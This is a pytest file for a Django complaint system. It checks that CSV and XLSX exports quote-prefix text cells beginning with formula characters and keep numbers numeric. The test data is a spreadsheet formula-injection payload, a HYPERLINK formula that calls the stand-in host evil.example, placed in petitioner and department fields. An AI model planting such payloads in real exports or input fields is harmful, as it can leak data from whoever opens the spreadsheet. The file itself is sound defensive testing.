"""Formula injection: every export door neutralises text cells starting with = + - @, a tab
or a carriage return, and keeps real numbers numeric (issue 11, item 6).

The doors: the complaint list export (CSV and XLSX, downloaded at once or built by a
worker), the KPI tables (CSV and XLSX), read back as a spreadsheet program would read
them. Personal data copies (complaints.rights) are JSON and PDF, not spreadsheets, and
the API answers JSON only: they have no spreadsheet door.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from accounts.models import User
from reporting import exports, rollups, spreadsheets
from reporting.models import ExportJob
from routing.models import Department
from tests.factories import PetitionerFactory, complaint_in

pytestmark = pytest.mark.django_db
SHANGHAI = ZoneInfo("Asia/Shanghai")
MARCH_20 = datetime(2026, 3, 20, 12, tzinfo=SHANGHAI)

LEADS = ["=", "+", "-", "@", "\t", "\r"]
assert set(LEADS) == set(spreadsheets.FORMULA_STARTS)
# Text columns of the complaint export that people outside the organisation write.
PETITIONER_TEXT = ["Title", "Content", "Location", "Petitioner", "Organisation", "Address"]


def payload(lead: str, what: str) -> str:
    return f'{lead}HYPERLINK("http://evil.example/?{what}","open")'


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def logged_in(user: User) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def hostile(handler: User, urban: Department) -> set[str]:
    """One complaint per lead character, every petitioner-written text starting with it."""
    expected: set[str] = set()
    for index, lead in enumerate(LEADS):
        values = {column: payload(lead, f"{column}{index}") for column in PETITIONER_TEXT}
        person = PetitionerFactory(
            name=values["Petitioner"],
            organisation=values["Organisation"],
            address=values["Address"],
        )
        complaint_in(
            "in_progress",
            department=urban,
            assignee=handler,
            petitioner=person,
            title=values["Title"],
            content=values["Content"],
            location=values["Location"],
            reopen_count=index,
        )
        expected.update(values.values())
    return expected


def export(client: Client, file_format: str) -> Any:
    data = {
        "export": "complaints",
        "query": "q=mine",
        "format": file_format,
        "personal_data": "on",
        "reason": "核对",
    }
    return client.post("/reports/exports/", data)


def as_written(value: str) -> str:
    """An XLSX cell's text as it was written: XML reads a carriage return as a line feed."""
    return "\r" + value[1:] if value.startswith("\n") else value


# Where each column is, whatever language the file was written in (a worker writes in
# its owner's language).
with translation.override("en"):
    POSITION = {str(column.header): index for index, column in enumerate(exports.COLUMNS)}


def check_csv(rows: list[list[str]], hostile: set[str]) -> None:
    for column in PETITIONER_TEXT:
        cells = [row[POSITION[column]] for row in rows[1:]]
        assert len(cells) == len(LEADS)
        for cell in cells:
            assert cell.startswith("'"), (column, cell)
            assert cell[1:] in hostile
    # A number is written as a number: nothing prefixed.
    assert sorted(row[POSITION["Times reopened"]] for row in rows[1:]) == [
        str(n) for n in range(len(LEADS))
    ]


def check_xlsx(rows: list[list[Any]], hostile: set[str]) -> None:
    for column in PETITIONER_TEXT:
        cells = [row[POSITION[column]] for row in rows[1:]]
        assert len(cells) == len(LEADS)
        for cell in cells:
            assert cell.data_type == "s", (column, cell.value)  # a string, never a formula
            assert cell.quotePrefix, (column, cell.value)
            assert as_written(cell.value) in hostile
    counts = [row[POSITION["Times reopened"]] for row in rows[1:]]
    assert {cell.data_type for cell in counts} == {"n"}
    assert sorted(cell.value for cell in counts) == list(range(len(LEADS)))


def test_a_complaint_export_downloaded_at_once_neutralises_every_lead_character(
    handler: User, hostile: set[str]
) -> None:
    client = logged_in(handler)

    check_csv(read_csv(export(client, "csv").content), hostile)
    check_xlsx(xlsx_rows(export(client, "xlsx").content), hostile)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_complaint_export_built_by_a_worker_neutralises_them_too(
    settings: Any,
    handler: User,
    hostile: set[str],
    file_format: str,
    django_capture_on_commit_callbacks: Any,
) -> None:
    settings.EXPORT_SYNC_LIMIT = 1  # six rows: queued, built by the (inline) worker
    client = logged_in(handler)
    with django_capture_on_commit_callbacks(execute=True):
        assert export(client, file_format).status_code == 302
    job = ExportJob.objects.get()
    assert (job.status, job.direct) == ("done", False)

    download = client.get(f"/reports/exports/{job.pk}/download/")
    content = download.getvalue()

    if file_format == "csv":
        check_csv(read_csv(content), hostile)
    else:
        check_xlsx(xlsx_rows(content), hostile)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_kpi_league_table_neutralises_department_names_and_keeps_figures_numeric(
    supervisor: User, urban: Department, file_format: str
) -> None:
    # Department names are set by administrators; a careless or hostile one is still text.
    names = {lead: payload(lead, "department") for lead in LEADS}
    departments = [
        Department.objects.create(code=f"d{index}", name_zh=name, name_en=name)
        for index, name in enumerate(names.values())
    ]
    with time_machine.travel(MARCH_20, tick=False):
        for department in departments:
            complaint_in(
                "received",
                department=department,
                received_at=datetime(2026, 3, 2, 10, tzinfo=SHANGHAI),
            )
        rollups.rebuild()
        data = {"export": "kpis", "table": "league", "period": "this_month"}
        response = logged_in(supervisor).post("/reports/exports/", {**data, "format": file_format})

    assert response.status_code == 200
    if file_format == "csv":
        rows = read_csv(response.content)
        shown = {row[0]: row[1] for row in rows[1:] if row[0] != urban.name_en}
        assert shown == {"'" + name: "1" for name in names.values()}
    else:
        cells = xlsx_rows(response.content)[1:]
        league = {
            as_written(row[0].value): row
            for row in cells
            if as_written(row[0].value) in names.values()
        }
        assert set(league) == set(names.values())
        for row in league.values():
            assert (row[0].data_type, row[0].quotePrefix) == ("s", True)
            assert (row[1].data_type, row[1].value) == ("n", 1)


def test_the_writer_itself_neutralises_every_lead_and_nothing_else() -> None:
    texts = [payload(lead, "x") for lead in LEADS] + ["a=b", "1-2", "路灯", "'quoted"]
    out = io.BytesIO()
    spreadsheets.write_csv(out, ["text", "number"], [[text, -3.5] for text in texts])

    rows = read_csv(out.getvalue())[1:]

    assert [row[0] for row in rows] == ["'" + t for t in texts[:6]] + texts[6:]
    assert {row[1] for row in rows} == {"-3.5"}
